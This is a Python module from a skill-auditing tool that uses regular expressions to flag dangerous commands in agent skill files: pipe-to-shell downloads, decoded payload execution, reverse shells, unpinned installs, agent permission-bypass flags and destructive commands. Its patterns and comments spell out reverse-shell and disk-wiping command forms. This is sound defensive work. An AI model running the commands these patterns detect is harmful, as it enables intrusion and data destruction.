"""Commands: remote code (SK630), decoded payloads (SK631), unpinned or URL installs (SK632,
SK633), reverse shells (SK634), agents run without permission checks (SK662) and destructive
commands (SK663).

They are looked for in every text file, prose included: a skill's Markdown is instructions the
agent follows, so a command in it is as good as run.
"""
from __future__ import annotations

import re
from typing import Iterator

from skillsite.audit.hit import Hit
from skillsite.audit.text import Document, Gate, gate

_I = re.IGNORECASE

#: HTTPS hosts of well-known projects' own installers: piping them into a shell is medium.
KNOWN_INSTALLER_HOSTS = frozenset({
    "astral.sh", "sh.rustup.rs", "rustup.rs", "bun.sh", "deno.land", "get.docker.com", "fluxcd.io",
    "run.linkerd.io", "aka.ms", "aspire.dev", "ollama.com", "claude.ai", "get.pnpm.io", "fnm.vercel.app",
    "get.sdkman.io", "starship.rs", "tailscale.com", "install.determinate.systems", "nixos.org",
    "install.python-poetry.org", "get.helm.sh", "foundry.paradigm.xyz", "sh.vector.dev", "dot.net",
    "dotnet.microsoft.com", "get.k3s.io", "pyenv.run", "get.volta.sh", "mise.run", "cli.github.com",
    "opencode.ai", "cursor.com", "install.pulumi.com", "get.pulumi.com", "sentry.io", "cli.sentry.dev",
    "supabase.com", "fly.io", "railway.app", "vercel.com", "get.jetify.com", "brew.sh",
})
#: raw.githubusercontent.com owners whose install scripts are the official way to install them.
KNOWN_INSTALLER_REPOS = ("Homebrew/", "nvm-sh/", "helm/", "pyenv/", "ohmyzsh/", "golangci/", "anchore/",
                         "aquasecurity/", "sigstore/", "kubernetes-sigs/", "rust-lang/", "nodesource/")

def _runs_on(start: str, run: str, rest: str, lazy: bool = False) -> tuple[str, str]:
    """A command pattern: ``start`` (the command), an open-ended ``run`` of its arguments
    (``[^\\n]*``) and the ``rest``; with the part a failed start passes over (``hopeless``, see
    :func:`~skillsite.audit.text.gate`)."""
    return start + run + ("?" if lazy else "") + rest, start + run


def _command_gate(pattern: str | tuple[str, str], *groups: str, flags: int = re.IGNORECASE) -> Gate:
    """The gate of a command pattern: a plain one, or one made by :func:`_runs_on`."""
    source, hopeless = (pattern, None) if isinstance(pattern, str) else pattern
    return gate(source, *groups, flags=flags, hopeless=hopeless)


_SHELL = r"(?:sudo\s+(?:-\S+\s+)*)?(?:env\s+(?:\S+=\S*\s+)*)?(?:/usr/bin/|/bin/)?"
_RUNNER = (r"(?:(?:ba|z|da|k|fi|c)?sh\b(?:\s+-[sx]\b|\s+-(?=\s|$)|\s+--(?=\s))?|python[23]?(?:\.\d+)?(?=\s*(?:$|[;&|)#\"'`]|-\s))|"
           r"node(?=\s*(?:$|[;&|)#\"'`]|-\s))|perl(?=\s*(?:$|[;&|)#]))|ruby(?=\s*(?:$|[;&|)#]))|"
           r"php(?=\s*(?:$|[;&|)#]))|pwsh\b|powershell\b|iex\b|Invoke-Expression\b|source\b(?=\s*(?:$|[;&|)]|/dev/stdin))|"
           r"\$\{?SHELL\b\}?)")
_DOWNLOAD = r"(?:curl|wget|iwr|irm|Invoke-WebRequest|Invoke-RestMethod|aria2c)"
_DL = "curl wget iwr irm invoke-web invoke-rest aria2c"


def _atomic(body: str, name: str) -> str:
    """``body`` matched as far as it goes and never given back, as ``(?>body)`` does on Python 3.11+
    (not on 3.10): a look-ahead, which never backtracks, captures it and a back-reference takes it.
    Without it a failing line of repeated downloads is tried in every split of its words."""
    return f"(?=(?P<{name}>{body}))(?P={name})"


#: A download saved to a file (``-o FILE``, ``-O FILE``, ``> FILE``), then that file run, at once or
#: after one more command (``chmod +x``), on the same line or the next.
_SAVED_THEN_RUN = (
    r"\b(?:curl|wget)\b[^\n;&|>]{0,200}?(?:\s-o\s*|\s--output[= ]\s*|\s-O\s*(?!-)|\s--output-document[= ]\s*|>\s*)"
    r"[\"']?" + _atomic(r"[\w.~$/-]{1,120}", "file") + r"[\"']?" + _atomic(r"[^\n;&|]{0,120}", "args")
    + r"(?:&&|;|\n)(?:" + _atomic(r"[^\n;&|]{0,120}(?:&&|;|\n)", "then") + r")?[ \t]*"
    r"(?:sudo\s+(?:-\S+\s+)*)?(?:(?:(?:ba|z|da|k)?sh|source|\.|python[23]?|node|perl|ruby|pwsh|powershell)\s+"
    r"(?:-\S+\s+)*[\"']?(?:\./)?|\./)?(?P=file)(?![\w.-])")
_PIPE_WORDS = (f"{_DL}", f"{_DL}", f"{_DL}", f"{_DL}", "iex invoke-expression", "exec eval", "fetch", "curl wget")
_PIPE_TO_SHELL: list[Gate] = [_command_gate(p, words, "|" if i == 0 else "")
                              for i, (words, p) in enumerate(zip(_PIPE_WORDS, (
    _runs_on(rf"\b{_DOWNLOAD}\b", r"[^\n|;]*", rf"(?:\|[^\n|;]*){{0,2}}\|\s*{_SHELL}{_RUNNER}"),
    _runs_on(rf"\b(?:(?:ba|z)?sh|python[23]?|node|perl)\s+(?:-\w+\s+)*[\"']?\$\(\s*{_DOWNLOAD}\b", r"[^\n)]*", r"\)"),
    _runs_on(rf"\b(?:(?:ba|z)?sh|source|\.)\s+<\(\s*{_DOWNLOAD}\b", r"[^\n)]*", r"\)"),
    _runs_on(rf"\beval\s+[\"']?\$\(\s*{_DOWNLOAD}\b", r"[^\n)]*", r"\)"),
    r"\b(?:iex|Invoke-Expression)\s*\(?\s*(?:\(?\s*New-Object\s+(?:System\.)?Net\.WebClient\s*\)?\s*\.\s*"
    r"DownloadString|\(?\s*(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b)[^\n]*",
    r"\b(?:exec|eval)\s*\(\s*(?:requests\.get|urllib\.request\.urlopen|urlopen|httpx\.get)\s*\([^\n]*",
    r"\b(?:eval|new\s+Function|Function)\s*\(\s*(?:await\s+)?\(?\s*(?:await\s+)?fetch\s*\([^\n]*",
    _SAVED_THEN_RUN,
)))]

_DECODERS = (r"b64decode|decodebytes|decodestring|a85decode|b32decode|fromhex|unhexlify|a2b_hex|a2b_base64|"
             r"zlib\.decompress|gzip\.decompress|lzma\.decompress|bz2\.decompress|marshal\.loads|"
             r"codecs\.decode|rot_?13|\[::-1\]|atob\s*\(|Buffer\.from\s*\([^)]*[\"'](?:base64|hex)[\"']|"
             r"FromBase64String|chr\s*\(\s*\w+\s*\)\s*for\b|String\.fromCharCode")
_DECODED_WORDS = ("base64 openssl", "xxd printf echo", "base64 xxd", "b64 fromhex hex zlib gzip lzma bz2 marshal codecs rot13 rot_13 [::-1] atob "
                  "buffer.from frombase64 chr( fromcharcode decodebytes decodestring a85decode b32decode a2b_", "getattr", "__import__",
                  "-e", "frombase64string")
_DECODED_EXEC: list[Gate] = [_command_gate(p, words) for words, p in zip(_DECODED_WORDS, (
    _runs_on(r"\b(?:base64|openssl\s+(?:base64|enc))\s+(?:-\w+\s+)*(?:-d|--decode|-D)\b", r"[^\n|;]*",
             rf"(?:\|[^\n|;]*){{0,2}}\|\s*{_SHELL}{_RUNNER}"),
    _runs_on(r"\b(?:xxd\s+-r|printf\s+[\"']?(?:%b|\\x)|echo\s+-e\s+[\"']\\x)", r"[^\n|;]*",
             rf"(?:\|[^\n|;]*){{0,2}}\|\s*{_SHELL}{_RUNNER}"),
    _runs_on(r"\b(?:eval|(?:ba|z)?sh\s+-c)\s+[\"']?\$\(", r"[^\n)]*", r"\b(?:base64\s+(?:-d|--decode)|xxd\s+-r)"),
    rf"(?:(?<![\w.])(?:exec|eval|compile)|\bos\.system|os\.popen|subprocess\.\w+|execfile|runpy\.\w+|new\s+Function|Function|"
    rf"\bvm\.runIn\w+|\bchild_process\.\w+|\bexecSync|\bspawnSync|\bInvoke-Expression|\biex|\bsetTimeout)\s*\(\s*"
    rf"[^\n]{{0,200}}?(?:{_DECODERS})",
    r"\bgetattr\s*\(\s*(?:__builtins__|builtins|__import__\([\"']builtins[\"']\))\s*,\s*[\"'](?:exec|eval)[\"']",
    r"\b__import__\s*\(\s*[\"'](?:os|subprocess)[\"']\s*\)\s*\.\s*(?:system|popen|call|run|Popen)\s*\(\s*"
    r"[^\n]{0,200}?(?:" + _DECODERS + ")",
    r"\b(?:powershell|pwsh)(?:\.exe)?\s+(?:-\w+\s+)*-(?:e|en|enc|encodedcommand)\s+[A-Za-z0-9+/=]{20,}",
    r"\bFromBase64String\b[^\n]{0,200}\|\s*(?:iex|Invoke-Expression)\b|\b(?:iex|Invoke-Expression)\b[^\n]{0,200}"
    r"FromBase64String",
))]

#: A shell wired to a network connection (to another machine: /dev/tcp to localhost is a bash
#: port check or HTTP request).
_DEV_TCP = r"/dev/(?:tcp|udp)/(?!localhost/|127\.)[\w.${}-]+/\d+"
_REVERSE_SHELL_WORDS = ("/dev/tcp /dev/udp", "/dev/tcp /dev/udp", "-e -c", "exec:", "mkfifo", "pty.spawn", "fileno",
                        "tcpclient")
_REVERSE_SHELL: list[Gate] = [_command_gate(p, words) for words, p in zip(_REVERSE_SHELL_WORDS, (
    # bash -i >& /dev/tcp/host/port 0>&1
    _runs_on(r"\b(?:ba|z|da|k)?sh\b", r"[^\n]*", rf"(?:>&|&>|<>)\s*{_DEV_TCP}", lazy=True),
    # exec 5<>/dev/tcp/...; sh <&5 >&5
    _runs_on(_DEV_TCP, r"[^\n]*", r"\b(?:ba|z|da|k)?sh\b[^\n]{0,2000}?<&\s*\d", lazy=True),
    _runs_on(r"\b(?:nc|ncat|netcat)\b", r"[^\n|;]*", r"\s-[ec]\s*[\"']?(?:/usr)?(?:/bin/)?(?:ba|z|da)?sh\b"),
    _runs_on(r"\bsocat\b", r"[^\n]*", r"\bexec:[\"']?(?:/usr)?(?:/bin/)?(?:ba|z|da)?sh\b"),
    _runs_on(r"\bmkfifo\b", r"[^\n]*",
             r"\|\s*(?:/bin/)?(?:ba|z|da)?sh\b[^\n]{0,2000}\|\s*(?:nc|ncat|netcat|openssl\s+s_client)\b"),
    r"\bsocket\b[^\n]{0,300}\bconnect\s*\([^\n]{0,300}\bpty\.spawn\s*\(\s*[\"'](?:/bin/)?(?:ba|z)?sh",
    r"\b(?:Popen|call|run)\s*\(\s*\[\s*[\"'](?:/bin/)?(?:ba|z)?sh[\"']\s*(?:,\s*[\"']-i[\"']\s*)?\]\s*,\s*"
    r"stdin\s*=\s*(?P<channel>\w+)\.fileno\(\)\s*,\s*stdout\s*=\s*(?P=channel)\.fileno\(\)",
    r"\bNet\.Sockets\.TCPClient\b[^\n]{0,600}\b(?:iex|Invoke-Expression)\b",
))]

_GIT_URL = gate(r"\bgit\+(?:https?|ssh|git|file)://[^\s\"'`#,;)\]]+(?:#[^\s\"'`,;)\]]*)?", "git+")
_NPM_GIT = _command_gate(_runs_on(
    r"\b(?:npm\s+(?:i|install|add)|yarn\s+add|pnpm\s+(?:add|i|install)|bun\s+(?:add|install))\b", r"[^\n]*",
    r"\s((?:github:|gitlab:|bitbucket:)[\w.-]+/[\w.-]+(?:#\S*)?|(?:git\+)?https?://(?:github|gitlab)\.com/\S+?\.git"
    r"(?:#\S*)?|[\w-]+/[\w.-]+#\S+)", lazy=True), "npm yarn pnpm bun", "github gitlab bitbucket #")
_CARGO_GIT = _command_gate(_runs_on(r"\bcargo\s+install\b", r"[^\n]*", r"--git\s+\S+[^\n]*"), "--git")
_PINNED = re.compile(r"^(?:[0-9a-f]{40}|[0-9a-f]{64}|v?\d+(?:\.\d+){1,3}(?:[-.+]\w+)*)$", _I)
_PIP = r"\b(?:pip[23]?(?:\.\d+)?|uv\s+pip|python[23]?(?:\.\d+)?\s+-m\s+pip|pipx|uv\s+tool)\s+install\b"
_URL_INSTALL_WORDS = ("pip pipx uv", "npm yarn pnpm", "index-url find-links -i -f", "registry")
_LOCAL_URL = re.compile(r"^https?://(?:localhost|127\.|0\.0\.0\.0|\[::1\])", re.IGNORECASE)
_URL_INSTALL: list[Gate] = [_command_gate(p, words, "http", flags=re.IGNORECASE | re.MULTILINE)
                            for words, p in zip(_URL_INSTALL_WORDS, (
    _runs_on(_PIP, r"[^\n]*", r"\s(https?://\S+?\.(?:whl|tar\.gz|tgz|zip|tar\.bz2|egg))\b", lazy=True),
    _runs_on(r"\b(?:npm\s+(?:i|install)|yarn\s+add|pnpm\s+add)\b", r"[^\n]*",
             r"\s(https?://\S+?\.(?:tgz|tar\.gz))\b", lazy=True),
    _runs_on(_PIP, r"[^\n]*", r"(?:--(?:extra-)?index-url|--find-links|\s-[if])\s*[= ]\s*[\"']?(https?://[^\s\"'`]+)|"
             r"^\s*(?:--)?(?:extra-)?index-url\s*[= ]\s*[\"']?(https?://[^\s\"'`]+)", lazy=True),
    r"\bnpm\s+config\s+set\s+registry\s+(https?://\S+)|--registry[= ]\s*(https?://\S+)",
))]
_TRUSTED_HOST = gate(r"--trusted-host\b|\bnpm\s+config\s+set\s+strict-ssl\s+false\b", "trusted-host strict-ssl")
_DEFAULT_INDEXES = re.compile(r"^https://(?:pypi\.org|files\.pythonhosted\.org|registry\.npmjs\.org|"
                              r"download\.pytorch\.org|registry\.yarnpkg\.com)\b", _I)

_AGENT_FLAGS = gate(
    r"--dangerously-skip-permissions\b|--dangerously-bypass-approvals-and-sandbox\b|--yolo\b|"
    r"--allow-dangerously-skip-permissions\b|--(?:approval-mode|approval_mode)[= ]\s*[\"']?yolo\b|"
    r"\b(?:approval[_-]policy|ask[_-]for[_-]approval)[\"']?\s*[=: ]\s*[\"']?never\b|"
    r"\bsandbox[_-]mode[\"']?\s*[=: ]\s*[\"']?danger-full-access\b|--sandbox\s+danger-full-access\b|"
    r"\b(?:permission[_-]?mode|defaultMode)[\"']?\s*[=: ]\s*[\"']?bypassPermissions\b|"
    r"--allow-all-tools\b|--trust-all-tools\b|(?<![\w-])--allow-all(?![\w-])",
    "dangerously yolo never danger-full-access bypasspermissions allow-all trust-all")

_DESTRUCTIVE_WORDS = ("rm ", "no-preserve-root", "mkfs", "of=/dev", "/dev/", ":()", "chmod chown", "shred",
                      "format c:,/s /q,del /", "remove-item")
_DESTRUCTIVE: list[Gate] = [_command_gate(p, words) for words, p in zip(_DESTRUCTIVE_WORDS, (
    r"\brm\s+(?:-[a-z]+\s+|--[a-z-]+\s+)*(?:-[a-z]*r[a-z]*|--recursive)\s+(?:-[a-z]+\s+|--[a-z-]+\s+)*"
    r"[\"']?(?:/\*?|~/?\*?|\$\{?HOME\}?/?\*?|/(?:usr|etc|bin|boot|var|home|lib|System|Users)/?\*?)[\"']?"
    r"(?=\s*(?:$|[;&|)#`]|--no-preserve-root))",
    r"\brm\s+(?:-\S+\s+)*--no-preserve-root\b",
    r"\bmkfs(?:\.\w+)?\s+(?:-\S+\s+)*/dev/\w+",
    _runs_on(r"\bdd\s+", r"[^\n]*", r"\bof=/dev/(?:sd[a-z]|nvme\d|hd[a-z]|disk\d|mmcblk\d|xvd[a-z]|vd[a-z]|rdisk\d)"),
    r"(?<![<>2&])>\s*/dev/(?:sd[a-z]|nvme\d+n\d+|hd[a-z]|disk\d)\b",
    r":\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:",
    r"\b(?:chmod|chown)\s+(?:-\S+\s+)*-R\s+\S+\s+/(?=\s*(?:$|[;&|]))",
    _runs_on(r"\bshred\s+", r"[^\n]*", r"/dev/(?:sd[a-z]|nvme)"),
    r"\bformat\s+c:|\b(?:rd|rmdir)\s+/s\s+/q\s+[a-z]:\\(?=\s|$)|\bdel\s+/[fsq]\s+/[fsq]\s+(?:/[fsq]\s+)?[a-z]:\\",
    r"\bRemove-Item\s+(?:-\S+\s+)*(?:[\"']?(?:C:\\|~|\$HOME|\$env:USERPROFILE|/)[\"']?)\s+(?:-\S+\s+)*"
    r"-Recurse\b|\bRemove-Item\s+(?:-\S+\s+)*-Recurse\s+(?:-\S+\s+)*[\"']?(?:C:\\|~|\$HOME|/)[\"']?(?=\s|$)",
))]


def _installer_host(segment: str) -> tuple[str, bool, bool]:
    """The first URL's host in a command, whether it is plain HTTP, and whether it is a known installer."""
    match = re.search(r"\b(https?)://([^/\s\"'`)]+)(/[^\s\"'`)]*)?", segment, _I)
    if match is None:
        return "", False, False
    scheme, host, path = match.group(1).lower(), match.group(2).lower(), match.group(3) or ""
    known = host in KNOWN_INSTALLER_HOSTS or any(host.endswith("." + h) for h in KNOWN_INSTALLER_HOSTS)
    if host == "raw.githubusercontent.com":
        known = any(path[1:].startswith(repo) for repo in KNOWN_INSTALLER_REPOS)
    return host, scheme == "http", known


_SOURCE = re.compile(r"://|\$|\b[\w-]+\.[a-z]{2,}(?:/|:\d|\b)", re.IGNORECASE)


def _remote_code(doc: Document) -> Iterator[Hit]:
    for pattern in _PIPE_TO_SHELL:
        for match in pattern.finditer(doc):
            if not _SOURCE.search(match.group()):
                continue  # "curl | sh" with nothing to download is a mention, not a command
            host, plain, known = _installer_host(match.group())
            if re.match(r"^\d+\.\d+\.\d+\.\d+(?::\d+)?$", host):
                known = False
            severity = "medium" if known and not plain else None
            detail = f" (from {host})" if host else ""
            yield Hit("SK630", match.start(), match.end(), detail, severity=severity)
    for pattern in _DECODED_EXEC:
        for match in pattern.finditer(doc):
            yield Hit("SK631", match.start(), match.end())
    for pattern in _REVERSE_SHELL:
        for match in pattern.finditer(doc):
            yield Hit("SK634", match.start(), match.end())


def _supply_chain(doc: Document) -> Iterator[Hit]:
    for match in _GIT_URL.finditer(doc):
        url = match.group()
        ref = url.split("#", 1)[0]
        tail = ref.rsplit("/", 1)[-1]
        version = tail.split("@", 1)[1] if "@" in tail else ""
        if "#" in url and not version:
            fragment = url.split("#", 1)[1]
            version = fragment.split("&", 1)[0] if not fragment.startswith("egg=") else ""
        if version and _PINNED.match(version):
            continue
        detail = f" (ref '{version}')" if version else " (no ref)"
        yield Hit("SK632", match.start(), match.end(), detail)
    for match in _NPM_GIT.finditer(doc):
        spec = match.group(1)
        ref = spec.split("#", 1)[1] if "#" in spec else ""
        if ref.startswith("semver:") or (ref and _PINNED.match(ref)):
            continue
        yield Hit("SK632", match.start(1), match.end(1), f" (ref '{ref}')" if ref else " (no ref)")
    for match in _CARGO_GIT.finditer(doc):
        if not re.search(r"--(?:rev|tag)\s+\S+", match.group()):
            yield Hit("SK632", match.start(), match.end(), " (cargo --git without --rev or --tag)")
    for pattern in _URL_INSTALL:
        for match in pattern.finditer(doc):
            url = next(g for g in match.groups() if g)
            if _DEFAULT_INDEXES.match(url) or _LOCAL_URL.match(url):
                continue
            plain = url.lower().startswith("http://")
            index = re.search(r"index|registry|find-links|\s-[if]\b", match.group(), _I) is not None
            severity = "high" if plain else ("low" if index else None)
            yield Hit("SK633", match.start(), match.end(), f" ({url[:80]})", severity=severity)  # type: ignore[arg-type]
    for match in _TRUSTED_HOST.finditer(doc):
        yield Hit("SK633", match.start(), match.end(), " (TLS verification turned off)", severity="high")


def _dangerous(doc: Document) -> Iterator[Hit]:
    for match in _AGENT_FLAGS.finditer(doc):
        yield Hit("SK662", match.start(), match.end(), f": {match.group().strip()}")
    for pattern in _DESTRUCTIVE:
        for match in pattern.finditer(doc):
            yield Hit("SK663", match.start(), match.end(), f": {match.group().strip()[:60]}")


def check_code(doc: Document) -> Iterator[Hit]:
    """SK630-SK634, SK662 and SK663 in one document."""
    yield from _remote_code(doc)
    yield from _supply_chain(doc)
    yield from _dangerous(doc)
